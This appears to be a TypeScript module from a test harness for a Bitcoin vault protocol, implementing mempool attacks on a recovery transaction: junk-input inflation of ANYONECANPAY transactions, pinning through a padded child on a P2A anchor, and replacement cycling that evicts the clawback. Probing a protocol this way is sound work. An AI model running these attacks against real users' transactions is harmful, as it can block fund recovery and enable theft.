/** What a stranger can do to a recovery transaction in the mempool that lets others add to it: A by inputs, P by children. */
import { Transaction } from 'bitcoinjs-lib'
import { outpointOf, sats, toHex } from '../../../packages/protocol/src/primitives/index.ts'
import { unvaultOf } from './hot.ts'
import type { Loot, OwnCoin } from './loot.ts'
import type { Teller } from './telling.ts'
import { P2A_SCRIPT, addOwnCoins, spendOwn, sumOf, txidOf } from './transactions.ts'

/** SIGHASH_ALL|ANYONECANPAY, the last byte of a signature. */
const ANYONE_CAN_PAY = 0x81

/** What spends U:0 in his mempool. */
async function recoveryOf(loot: Loot, { bitcoind }: Teller, variant: number): Promise<Transaction> {
  const { transaction } = await unvaultOf(loot, variant)
  const [found] = await bitcoind.getTxSpendingPrevout([outpointOf(txidOf(transaction), 0)])
  const raw = found?.spender ? await bitcoind.getRawTransaction(found.spender) : null
  if (raw === null) throw new RangeError('nothing spends U:0 in his mempool')
  return Transaction.fromBuffer(raw)
}

/** The transaction of somebody else with his coins appended; valid only where every signature is ANYONECANPAY. */
function withCoins(recovery: Transaction, coins: readonly OwnCoin[]): Uint8Array {
  const inflated = recovery.clone()
  addOwnCoins(inflated, coins)
  return inflated.toBuffer()
}

/** Appends this many junk inputs to whatever spends U:0. */
export async function inflate(loot: Loot, teller: Teller, [variant = 0, inputs = 1, base_fee = 0]: readonly number[]): Promise<void> {
  const recovery = await recoveryOf(loot, teller, variant)
  const coins = (await loot.coins()).slice(0, inputs)
  const own = sumOf(coins)
  const witness = recovery.ins[0]?.witness ?? []
  const isOpen = witness.some((item) => item.length > 64 && item.at(-1) === ANYONE_CAN_PAY)
  const tried = `${inputs} junk inputs appended to ${isOpen ? 'A' : 'a clawback that is signed whole'}`
  await teller.send({ tried, raw: withCoins(recovery, coins), fee_sats: BigInt(base_fee) + own, own_sats: own })
}

/** A child on the anchor of whatever spends U:0, padded to pin it. */
export async function anchorChild(loot: Loot, teller: Teller, [variant = 0, padding = 0, sat_vb = 1, version = 3]: readonly number[]): Promise<void> {
  const recovery = await recoveryOf(loot, teller, variant)
  const anchor = anchorOf(recovery)
  if (anchor === null) throw new RangeError('what spends U:0 has no anchor')
  const coins = await largestOf(loot)
  const { raw, fee, own } = spendOwn({ version, anchors: [anchor], coins, padding, sat_vb })
  await teller.send({ tried: `child of version ${version} with ${padding} outputs on P2A at ${sat_vb} sat/vB`, raw, fee_sats: fee, own_sats: own })
}

/**
 * Replacement cycling: joins the transaction with a coin of his own, and then spends that coin elsewhere, so that the
 * transaction which he joined is out of the mempool and nothing is in its place.
 */
export async function cycle(loot: Loot, teller: Teller, [variant = 0, exit_sat_vb = 100]: readonly number[]): Promise<void> {
  const recovery = await recoveryOf(loot, teller, variant)
  const coins = await largestOf(loot)
  const own = sumOf(coins)
  const isIn = await teller.send({ tried: 'a coin of his own joined to the clawback', raw: withCoins(recovery, coins), fee_sats: own, own_sats: own })
  if (!isIn) return
  const exit = spendOwn({ version: 2, anchors: [], coins, padding: 0, sat_vb: exit_sat_vb })
  await teller.send({ tried: 'that coin spent elsewhere', raw: exit.raw, fee_sats: exit.fee, own_sats: exit.own })
}

async function largestOf(loot: Loot): Promise<OwnCoin[]> {
  const coins = await loot.coins()
  return coins.toSorted((a, b) => Number(b.value - a.value)).slice(0, 1)
}

function anchorOf(recovery: Transaction): OwnCoin | null {
  const vout = recovery.outs.findIndex(({ script }) => toHex(script) === toHex(P2A_SCRIPT))
  const output = recovery.outs[vout]
  return output === undefined ? null : { outpoint: outpointOf(txidOf(recovery), vout), value: sats(Number(output.value)) }
}
